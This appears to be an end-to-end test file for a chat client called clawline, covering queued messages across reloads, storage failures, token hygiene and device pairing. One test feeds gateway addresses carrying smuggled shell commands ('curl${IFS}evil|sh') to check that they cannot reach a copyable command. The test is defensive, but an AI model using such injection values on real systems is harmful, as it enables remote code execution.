// What was typed and what is secret: the one is never lost, the other goes
// only where it was meant to go.
import assert from "node:assert/strict";
import { historyRows, scenario, until } from "./harness/index.mjs";

const EMBEDDED = { servers: ["embedded"] };

/**
 * Stands between the pages of a browser and the gateway, but not between them
 * and the server of the page: that can be reloaded while the gateway is away.
 */
async function plug(context) {
  const plug = { mode: "through" };
  const open = new Set();
  await context.routeWebSocket(/./, (socket) => {
    if (plug.mode === "out") {
      socket.close({ code: 1013, reason: "unplugged" });
      return;
    }
    open.add(socket);
    const server = socket.connectToServer();
    socket.onMessage((message) => server.send(message));
    server.onMessage((message) => {
      if (plug.mode === "through") {
        socket.send(message);
      }
    });
  });
  plug.pull = async () => {
    plug.mode = "out";
    await Promise.all([...open].map((socket) => socket.close({ code: 1013, reason: "unplugged" })));
    open.clear();
  };
  return plug;
}

scenario("what waits to be sent survives a reload, and goes out once", EMBEDDED, async ({ chat, page, context }) => {
  const line = await plug(context);
  await chat.connect();
  await line.pull();
  await chat.hasStatus("Reconnecting");
  await chat.send("waits over a reload");
  await chat.reaches("waits over a reload", "queued");
  await page.reload();
  await chat.reaches("waits over a reload", "queued");
  line.mode = "through";
  await chat.hasStatus("Connected");
  await chat.reaches("waits over a reload", "confirmed");
  await chat.answer("waits over a reload");
  await chat.idle();
  await page.reload();
  await chat.hasStatus("Connected");
  await chat.reaches("waits over a reload", "confirmed");
  assert.equal((await chat.said("You", "waits over a reload")).length, 1);
});

scenario(
  "a message that left without an answer is marked after a reload, until the history shows that it arrived",
  EMBEDDED,
  async ({ chat, page, context, server }) => {
    const line = await plug(context);
    await chat.connect();
    line.mode = "deaf";
    await chat.send("did you get this?");
    await chat.reaches("did you get this?", "sending");
    await until("the gateway got it", async () => (await historyRows(server, "did you get this?")).rows.length > 0);
    await line.pull();
    await chat.hasStatus("Reconnecting");
    await page.reload();
    await chat.reaches("did you get this?", "unconfirmed");
    await page.getByText("the gateway cannot say whether it arrived").waitFor();
    line.mode = "through";
    await chat.hasStatus("Connected");
    await chat.reaches("did you get this?", "confirmed");
    assert.equal((await chat.said("You", "did you get this?")).length, 1);
    await page.reload();
    await chat.hasStatus("Connected");
    await chat.reaches("did you get this?", "confirmed");
    assert.equal((await chat.said("You", "did you get this?")).length, 1);
  },
);

scenario(
  "a message written for one gateway waits there while the page is at another",
  { ...EMBEDDED, strangers: ["mute"] },
  async ({ chat, page, context, server, strangers }) => {
    const line = await plug(context);
    await chat.connect();
    await line.pull();
    await chat.hasStatus("Reconnecting");
    await chat.send("for the first gateway");
    await chat.reaches("for the first gateway", "queued");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await chat.address.fill(strangers.mute.url);
    await chat.connectButton.click();
    await chat.hasStatus("Connecting");
    line.mode = "through";
    await chat.address.fill(server.gateway);
    await chat.connectButton.click();
    await chat.hasStatus("Connected");
    await chat.reaches("for the first gateway", "confirmed");
    assert.equal((await chat.said("You", "for the first gateway")).length, 1);
  },
);

scenario("an empty tab leaves the draft and the waiting messages of another one alone", EMBEDDED, async ({ chat, page, context, newTab }) => {
  const line = await plug(context);
  await chat.connect();
  const other = await newTab();
  await other.connect();
  await line.pull();
  await chat.hasStatus("Reconnecting");
  await other.hasStatus("Reconnecting");
  await chat.send("of the first tab");
  await chat.reaches("of the first tab", "queued");
  await chat.message.fill("half a thought");
  await chat.message.blur();
  await other.message.focus();
  await other.message.blur();
  await other.page.close();
  const third = await newTab();
  await third.open();
  await third.hasStatus("Connecting");
  assert.equal((await third.said("You", "of the first tab")).length, 0, "the first tab still sends it");
  await third.page.close();
  await page.reload();
  await chat.reaches("of the first tab", "queued");
  assert.equal(await chat.message.inputValue(), "half a thought");
});

scenario("what the browser has no room to keep is said, not dropped in silence", EMBEDDED, async ({ chat, page, server }) => {
  await page.addInitScript(() => {
    const { setItem } = Storage.prototype;
    Storage.prototype.setItem = function (name, value) {
      if (name.startsWith("clawline.unsent")) {
        throw new DOMException("There is no room left.", "QuotaExceededError");
      }
      setItem.call(this, name, value);
    };
  });
  await chat.connect();
  await chat.message.fill("x".repeat(500_000));
  await chat.message.blur();
  await page.getByText("no room for a draft like this").waitFor();
  await chat.message.fill("short");
  await chat.message.blur();
  await page.getByText("no room for a draft like this").waitFor({ state: "detached" });
  await server.line({ mode: "refuse" });
  await server.cut();
  await chat.hasStatus("Reconnecting");
  await chat.send("nowhere to be kept");
  await page.getByText("no room for the messages that wait").waitFor();
  await server.line({});
  await chat.hasStatus("Connected");
  await chat.reaches("nowhere to be kept", "confirmed");
});

scenario("what somebody else wrote into the storage does no harm", EMBEDDED, async ({ chat, page, server }) => {
  const garbage = ["null", "{", "5", "[1]", "[0,true,null,[1,2],[\"k\",\"t\",0,\"?\"]]", "[\"x\",true]"];
  await chat.connect();
  await page.evaluate(
    ([gateway, garbage]) => garbage.forEach((value, index) => localStorage.setItem(`clawline.unsent:${gateway}|${index}`, value)),
    [server.gateway, garbage],
  );
  await page.reload();
  await chat.connect();
  await chat.send("in spite of it");
  await chat.reaches("in spite of it", "confirmed");
});

scenario("a link pasted into the open page is followed, and its token leaves the address bar", EMBEDDED, async ({ chat, page, server }) => {
  await chat.open({ token: null });
  await chat.hasStatus("Signed out");
  const link = new URLSearchParams({ gateway: server.gateway, token: server.token });
  const entries = await page.evaluate(() => history.length);
  await page.evaluate((link) => (location.hash = link), String(link));
  await chat.hasStatus("Connected");
  assert.equal(page.url(), server.page);
  assert.equal(await page.evaluate(() => history.length), entries + 1, "the entry with the token was replaced");
});

scenario(
  "the token of one gateway is not sent to another when only the address is changed",
  { ...EMBEDDED, strangers: ["no scopes"] },
  async ({ chat, page, server, strangers, frames }) => {
    await chat.connect();
    const stranger = strangers["no scopes"];
    const withToken = () => frames.filter(({ direction, text }) => direction === "sent" && text.includes(server.token));
    const before = withToken().length;
    assert.ok(before > 0, "the right gateway got it");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await chat.address.fill(stranger.url);
    await chat.connectButton.click();
    await chat.says(/^Signed out: .*allows it nothing/);
    assert.ok(stranger.connections > 0);
    assert.equal(withToken().length, before);
    assert.equal(await chat.token.inputValue(), "");
    await page.getByText("was taken out of the form").waitFor();
  },
);

scenario("a link cannot put a command of its own into the one to copy", EMBEDDED, async ({ chat, page, complaints }) => {
  complaints.expect(/content.security.policy/i);
  await chat.open({ gateway: "ws://127.0.0.1:9/;curl${IFS}evil|sh", token: null });
  await page.getByText(/is in no address/).waitFor();
  await chat.open({ gateway: "ws://127.0.0.1:9/;curl$IFS-evil&sh", token: null });
  await page.getByText("clawline-relay serve").waitFor();
  assert.equal(await page.getByText("clawline-relay serve").innerText(), "clawline-relay serve --gateway ws://127.0.0.1:9");
});

scenario("what is written while the policy forbids the gateway is shown, and waits", EMBEDDED, async ({ chat, page, complaints }) => {
  complaints.expect(/content.security.policy/i);
  const gateway = "ws://127.0.0.1:9/";
  const used = (gateway) => location.protocol === "http:" && localStorage.setItem(`clawline.used:${gateway}`, "1");
  await page.addInitScript(used, gateway);
  await chat.open({ gateway, token: null });
  await page.getByText("clawline-relay serve").waitFor();
  await page.getByRole("button", { name: "Back to the conversation" }).click();
  await chat.send("where does this go?");
  await chat.reaches("where does this go?", "queued");
  await page.goto("about:blank");
  await chat.open({ gateway, token: null });
  await page.getByRole("button", { name: "Back to the conversation" }).click();
  await chat.reaches("where does this go?", "queued");
});

scenario("a server that does not say what it is keeps nobody waiting", EMBEDDED, async ({ chat, page }) => {
  let sockets = 0;
  page.on("websocket", () => (sockets += 1));
  await page.route("**/config.json", () => {});
  const givenUp = page.waitForEvent("requestfailed", (request) => request.url().endsWith("/config.json"));
  givenUp.catch(() => {}); // It is awaited below, unless something fails before.
  await chat.connect();
  await chat.send("without a configuration");
  await chat.reaches("without a configuration", "confirmed");
  await givenUp;
  assert.match(await chat.statusText(), /^Connected/);
  assert.equal(sockets, 1);
});

scenario(
  "this device can be forgotten, after a question: the gateway sees a new one",
  { ...EMBEDDED, server: { relay: ["--pair", "always"] } },
  async ({ chat, page, server }) => {
    await chat.open();
    await chat.hasStatus("Waiting for approval");
    const first = await chat.requestId();
    await server.approve(first);
    await chat.hasStatus("Connected");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await page.getByRole("button", { name: "Forget this device" }).click();
    await page.getByRole("button", { name: "Keep it" }).click();
    await page.getByRole("button", { name: "Forget this device" }).click();
    await page.getByRole("button", { name: "Yes, forget it" }).click();
    await page.getByText("key is deleted").waitFor();
    await chat.hasStatus("Offline");
    await chat.connectButton.click();
    await chat.hasStatus("Waiting for approval");
    await until("the request is a new one", async () => (await chat.requestId()) !== first);
  },
);
